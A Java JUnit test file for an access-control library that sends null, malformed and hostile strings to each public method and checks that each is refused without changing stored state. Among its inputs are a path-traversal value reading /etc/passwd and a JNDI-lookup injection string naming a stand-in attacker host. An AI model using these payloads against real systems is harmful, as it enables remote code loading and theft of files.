package io.thingward.security;

import static org.assertj.core.api.Assertions.assertThat;

import io.thingward.Thingward;
import io.thingward.access.Device;
import io.thingward.access.DeviceReach;
import io.thingward.access.RequestContext;
import io.thingward.access.Subject;
import io.thingward.access.SubjectListener;
import io.thingward.authentication.Authentication.Refused;
import io.thingward.authentication.BearerToken;
import io.thingward.authentication.DeviceLogin;
import io.thingward.authentication.PresentedCredential;
import io.thingward.credential.Issued;
import io.thingward.credential.Secret;
import io.thingward.error.ThingwardException;
import io.thingward.hashing.Argon2Hasher;
import io.thingward.management.AccessKey;
import io.thingward.management.AccessKeys;
import io.thingward.management.ApiKey;
import io.thingward.management.ApiUser;
import io.thingward.management.ApiUsers;
import io.thingward.management.ChangeSet;
import io.thingward.management.Management;
import io.thingward.management.NewApiKey;
import io.thingward.management.RoleChanges;
import io.thingward.model.CredentialId;
import io.thingward.model.DeviceId;
import io.thingward.model.DeviceScope;
import io.thingward.model.PasswordHash;
import io.thingward.model.PrincipalId;
import io.thingward.model.RoleId;
import io.thingward.model.WorkspaceId;
import io.thingward.password.Password;
import io.thingward.password.PasswordHasher;
import io.thingward.permission.DevicePermission;
import io.thingward.permission.Permission;
import io.thingward.permission.WorkspacePermission;
import io.thingward.scenarios.Host;
import io.thingward.store.PageRequest;
import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.Method;
import java.lang.reflect.Modifier;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collection;
import java.util.Collections;
import java.util.Comparator;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

/**
 * B12: every public method of the library, of management and of subjects, with every argument bad
 * in turn: a typed error or an ordinary refusal, and nothing changed.
 */
class HostileInputTest {
  private static final DevicePermission VIEW = DevicePermission.of("view", "See the device");
  private static final WorkspacePermission RULES = WorkspacePermission.of("rules", "Edit rules");

  /** Texts that nothing may be called. */
  private static final Map<String, String> IMPOSSIBLE =
      new TreeMap<>(
          Map.of(
              "empty", "",
              "1 MB", "x".repeat(1 << 20),
              "NUL", "a\0b",
              "line end", "a\r\nb",
              "C1 control", "a\u0085b",
              "lone high surrogate", "a\ud83d",
              "lone low surrogate", "\ude00b"));

  /** Texts that some things may be called, and that change nothing where they are refused. */
  private static final Map<String, String> STRANGE =
      new TreeMap<>(
          Map.of(
              "4-byte characters", "\ud83d\ude00\ud83d\ude00",
              "bidi override", "a\u202eb\u2066c",
              "line separator", "a\u2028b",
              "blank", " ",
              "path", "../../etc/passwd",
              "template", "${jndi:ldap://attacker.example/x}",
              "full-width", "\uff41\uff1d\uff42",
              "decomposed", "e\u0301"));

  private final PasswordHasher hasher = Argon2Hasher.recommended2026();
  private final PasswordHash hash = hasher.hash(Password.of("lake-otter-copper-7"));
  private Host host;
  private Subject owner;
  private Values values;

  @BeforeEach
  void start() {
    host =
        new Host(
            builder ->
                builder
                    .permissions(VIEW, RULES)
                    .devices(DeviceReach.nothing().peers(VIEW))
                    .passwords(hasher));
    PrincipalId ann = host.user("ann@acme.example");
    PrincipalId bob = host.user("bob@acme.example");
    WorkspaceId acme = host.workspace("acme", ann);
    host.management().members(acme).add(bob, ChangeSet.builder().allow(RULES).build());
    RoleId role = host.management().roles(acme).create("role", RoleChanges.none()).id();
    owner = host.by(ann, NewApiKey.of("owner"));
    Device device = host.device(acme, "device");
    values =
        new Values()
            .put(String.class, "text")
            .put(CharSequence.class, "text")
            .put(int.class, 10)
            .put(boolean.class, true)
            .put(Object.class, "object")
            .put(Duration.class, Duration.ofMinutes(5))
            .put(Instant.class, host.clock().instant().plus(Duration.ofDays(1)))
            .put(WorkspaceId.class, acme)
            .put(PrincipalId.class, bob)
            .put(RoleId.class, role)
            .put(DeviceId.class, device.id())
            .put(Device.class, device)
            .put(DeviceScope.class, DeviceScope.all())
            .put(DevicePermission.class, VIEW)
            .put(WorkspacePermission.class, RULES)
            .put(Permission.class, VIEW)
            .put(ChangeSet.class, ChangeSet.none())
            .put(RoleChanges.class, RoleChanges.none())
            .put(PageRequest.class, PageRequest.first(10))
            .put(RequestContext.class, RequestContext.none())
            .put(Secret.class, Secret.of("secret"))
            .put(Password.class, Password.of("lake-otter-copper-7"))
            .put(PasswordHash.class, hash)
            .put(PresentedCredential.class, BearerToken.of("token"))
            .put(Iterator.class, Collections.emptyIterator())
            .put(Subject.class, owner)
            .put(SubjectListener.class, (subject, event) -> {});
  }

  @AfterEach
  void stop() {
    host.close();
  }

  /* An object and ordinary arguments for its methods. */
  private record Target(Object object, Values values) {}

  private List<Target> targets() {
    List<Target> targets = new ArrayList<>();
    targets.add(new Target(host.thingward(), values.copy().put(String.class, "a reason")));
    targets.add(new Target(owner, values));
    Device device = (Device) values.of(Device.class);
    Issued<AccessKey> all =
        host.management().accessKeys(device.workspace()).create("all", DeviceScope.all());
    targets.add(new Target(host.connect(device, all).orElseThrow(), values));
    for (Management management : List.of(host.management(), host.thingward().as(owner))) {
      targets.add(new Target(management, values));
      for (Method method : methods(management)) {
        if (method.getReturnType().getPackage() == Management.class.getPackage()) {
          targets.addAll(parts(management, method));
        }
      }
    }
    return targets;
  }

  /* A part of management, with the id of something that is really there. */
  private List<Target> parts(Management management, Method method) {
    Values own = values.copy();
    WorkspaceId acme = (WorkspaceId) values.of(WorkspaceId.class);
    if (method.getName().equals("accessKeys")) {
      Issued<AccessKey> key = host.management().accessKeys(acme).create("key", DeviceScope.all());
      own.put(CredentialId.class, key.id());
    } else if (method.getName().equals("apiKeys") && method.getParameterCount() == 1) {
      PrincipalId bob = (PrincipalId) values.of(PrincipalId.class);
      Issued<ApiKey> key = host.management().apiKeys(bob).create(NewApiKey.of("key"));
      own.put(CredentialId.class, key.id());
    } else if (method.getName().equals("apiUsers") || method.getName().equals("apiKeys")) {
      ApiUser robot = host.management().apiUsers(acme).create("robot", ChangeSet.none());
      own.put(PrincipalId.class, robot.id());
      Issued<ApiKey> key = host.management().apiKeys(acme, robot.id()).create(NewApiKey.of("key"));
      own.put(CredentialId.class, key.id());
    } else {
      own.put(CredentialId.class, owner.credential().id());
    }
    Object part = invoke(management, method, arguments(method, own)).returned();
    return part == null ? List.of() : List.of(new Target(part, own));
  }

  private static List<Method> methods(Object object) {
    Class<?> type = object instanceof Subject ? Subject.class : object.getClass();
    return Arrays.stream(type.getMethods())
        .filter(method -> method.getDeclaringClass() != Object.class)
        .filter(method -> !Modifier.isStatic(method.getModifiers()) && !method.isBridge())
        .filter(method -> method.getParameterCount() > 0 && !method.getName().equals("equals"))
        .sorted(Comparator.comparing(Method::toGenericString))
        .toList();
  }

  private static Object[] arguments(Method method, Values values) {
    return Arrays.stream(method.getGenericParameterTypes()).map(values::of).toArray();
  }

  /* What came of a call: a result, or an exception. */
  private record Outcome(Object returned, Throwable thrown) {}

  private static Outcome invoke(Object object, Method method, Object... arguments) {
    try {
      return new Outcome(method.invoke(object, arguments), null);
    } catch (InvocationTargetException failed) {
      return new Outcome(null, failed.getCause());
    } catch (IllegalAccessException impossible) {
      throw new IllegalStateException(impossible);
    }
  }

  /* Everything but last uses, which are written later and by another thread. */
  private String kept() {
    return Graph.snapshot(
        List.of(
            host.stores().principals(),
            host.stores().workspaces(),
            host.stores().keys(),
            host.stores().sessions()));
  }

  private static String name(Object object, Method method) {
    return object.getClass().getSimpleName() + "." + method.getName();
  }

  @Test
  @DisplayName("B12 null for any argument is a NullPointerException and changes nothing")
  void nullArgument_isRefused() {
    List<String> flaws = new ArrayList<>();
    int calls = 0;
    for (Target target : targets()) {
      String before = kept();
      for (Method method : methods(target.object())) {
        for (int i = 0; i < method.getParameterCount(); i++) {
          Class<?> type = method.getParameterTypes()[i];
          List<Object> bad = new ArrayList<>();
          if (!type.isPrimitive()) {
            bad.add(null);
          }
          if (type.isArray()) {
            bad.add(java.lang.reflect.Array.newInstance(type.getComponentType(), 1));
          } else if (Collection.class.isAssignableFrom(type) && type != Set.class) {
            bad.add(Collections.singletonList(null));
          }
          for (Object value : bad) {
            Object[] arguments = arguments(method, target.values());
            arguments[i] = value;
            Outcome outcome = invoke(target.object(), method, arguments);
            calls++;
            if (!(outcome.thrown() instanceof NullPointerException)) {
              flaws.add(name(target.object(), method) + " argument " + i + ": " + outcome);
            }
          }
        }
      }
      if (!kept().equals(before)) {
        flaws.add(target.object().getClass().getSimpleName() + " changed the store");
      }
    }
    assertThat(flaws).isEmpty();
    assertThat(calls).isGreaterThan(150);
  }

  /* Where an impossible text is none: a description may be empty, a reason is the host's own. */
  private static final Set<String> TAKES_ANY = Set.of("Thingward.asHost");

  private static final Set<String> TAKES_EMPTY = Set.of("AccessKeys.describe");

  @Test
  @DisplayName("B12 a hostile text is a typed error and changes nothing")
  void hostileText_isRefused() {
    List<String> flaws = new ArrayList<>();
    int calls = 0;
    for (Target target : targets()) {
      for (Method method : methods(target.object())) {
        for (int i = 0; i < method.getParameterCount(); i++) {
          if (method.getParameterTypes()[i].isAssignableFrom(String.class)) {
            calls += tryTexts(target, method, i, IMPOSSIBLE, false, flaws);
            calls += tryTexts(target, method, i, STRANGE, true, flaws);
          }
        }
      }
    }
    assertThat(flaws).isEmpty();
    assertThat(calls).isGreaterThan(100);
  }

  private int tryTexts(
      Target target,
      Method method,
      int at,
      Map<String, String> texts,
      boolean possible,
      List<String> flaws) {
    String name = name(target.object(), method);
    texts.forEach(
        (kind, text) -> {
          String before = kept();
          Object[] arguments = arguments(method, target.values());
          arguments[at] = text;
          Outcome outcome = invoke(target.object(), method, arguments);
          Throwable thrown = outcome.thrown();
          boolean typed =
              thrown instanceof IllegalArgumentException || thrown instanceof ThingwardException;
          boolean accepted =
              thrown == null
                  && (possible
                      || outcome.returned() instanceof Refused<?>
                      || TAKES_ANY.contains(name)
                      || (text.isEmpty() && TAKES_EMPTY.contains(name)));
          if (!typed && !accepted) {
            flaws.add(name + " argument " + at + ", " + kind + ": " + thrown);
          }
          if (typed && !kept().equals(before)) {
            flaws.add(name + " argument " + at + ", " + kind + " changed the store");
          }
          if (thrown != null && String.valueOf(thrown.getMessage()).length() > 2_000) {
            flaws.add(name + " argument " + at + ", " + kind + " repeats the whole text");
          }
        });
    return texts.size();
  }

  @Test
  @DisplayName("B12 whatever text a client presents, it is refused and nothing is changed")
  void hostileCredential_isRefused() {
    WorkspaceId acme = (WorkspaceId) values.of(WorkspaceId.class);
    AccessKeys keys = host.management().accessKeys(acme);
    Issued<AccessKey> key = keys.create("key", DeviceScope.all());
    String id = key.value().key();
    String secret = new String(key.secret().reveal());
    String before = kept();
    Map<String, String> texts = new TreeMap<>(IMPOSSIBLE);
    texts.putAll(STRANGE);
    texts.put("Turkish", id.replace('i', '\u0131').replace('I', '\u0130') + "\u0131");
    texts.put("full-width digit", secret.substring(0, secret.length() - 1) + "\uff11");
    texts.put("trailing NUL", secret + "\0");
    texts.forEach(
        (kind, text) -> {
          for (PresentedCredential presented :
              List.of(
                  BearerToken.of(text),
                  BearerToken.of("tw_k_" + text),
                  BearerToken.of("tw_s_" + text),
                  DeviceLogin.parse(text, secret, "device"),
                  DeviceLogin.parse(id, text, "device"),
                  DeviceLogin.parse(id, secret, text),
                  DeviceLogin.parse(id, secret, "device" + text + "x"))) {
            assertThat(
                    host.thingward().authenticate(presented, RequestContext.of(text + "x", text)))
                .as(kind)
                .isEqualTo(new Refused<>());
          }
        });
    assertThat(kept()).isEqualTo(before);
  }

  @Test
  @DisplayName("B12 the snapshot would have seen a change")
  void snapshot_seesChanges() {
    String before = kept();
    assertThat(kept()).isEqualTo(before);
    WorkspaceId acme = (WorkspaceId) values.of(WorkspaceId.class);
    ApiUsers apiUsers = host.management().apiUsers(acme);
    ApiUser robot = apiUsers.create("robot", ChangeSet.none());
    String with = kept();
    assertThat(with).isNotEqualTo(before).contains("robot");
    apiUsers.change(robot.id(), ChangeSet.builder().allow(RULES).build());
    assertThat(kept()).isNotEqualTo(with);
  }

  @Test
  @DisplayName("B12 after the end every call is refused, and none hangs")
  void closedLibrary_refuses() {
    Thingward thingward = host.thingward();
    thingward.close();
    assertThat(
            org.assertj.core.api.Assertions.catchThrowable(
                () -> thingward.authenticate(BearerToken.of("token"), RequestContext.none())))
        .isInstanceOf(IllegalStateException.class);
    assertThat(
            org.assertj.core.api.Assertions.catchThrowable(
                () -> host.management().workspaces().list(PageRequest.first(1))))
        .isInstanceOf(IllegalStateException.class);
  }
}
